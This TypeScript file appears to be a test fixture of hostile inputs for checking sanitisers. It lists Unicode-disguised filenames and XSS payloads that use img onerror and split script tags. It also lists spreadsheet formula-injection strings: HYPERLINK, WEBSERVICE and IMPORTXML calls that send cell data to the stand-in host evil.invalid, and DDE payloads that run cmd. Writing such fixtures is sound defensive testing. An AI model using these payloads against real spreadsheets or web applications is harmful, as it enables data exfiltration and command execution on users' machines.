/** Where nothing of the product ever goes. */
export const elsewhere = "http://evil.invalid";

const runs = "alert(1)";

/** What a person reads otherwise than it is. */
export const hidden: readonly string[] = [
  ..."\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
    .split("")
    .map((mark) => `photo_${mark}gpj.exe ${mark}<img src=x onerror=${runs} data-evil>`),
  ..."\u0000\u0007\u0008\u000b\u000c\u007f\u0085\u00ad\u200b\u200c\u200d\u2028\u2029\u2060\ufeff\ufff9\ufffe\uffff"
    .split("")
    .map((mark) => `a${mark}b<scr${mark}ipt>${runs}</scr${mark}ipt>`),
  "\ud800 half",
  "half \udc00",
  `Z${"\u0353\u036f\u0337".repeat(60)}algo`,
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}".repeat(40),
  "\u{e0041}\u{e0042}\u{e007f}tags",
  "İıſKÅﬃ <ſcript>",
  "تم <b data-evil>‏</b> שלום",
];

/** What a spreadsheet would calculate. */
export const formulas: readonly string[] = [
  ..."= + - @ \t= \r= \n= ＝ ＋ － ＠ | %0A="
    .split(/ (?!$)/)
    .map((sign) => `${sign}HYPERLINK("${elsewhere}/?x="&A1,"click")`),
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  '"=1+1',
  '",=1+1,"',
  '"\r\n=1+1',
  ";=1+1",
  "'=1+1",
  `=WEBSERVICE("${elsewhere}")`,
  `=IMPORTXML("${elsewhere}","//a")`,
  `=DDE("cmd";"/C calc";"x")`,
];
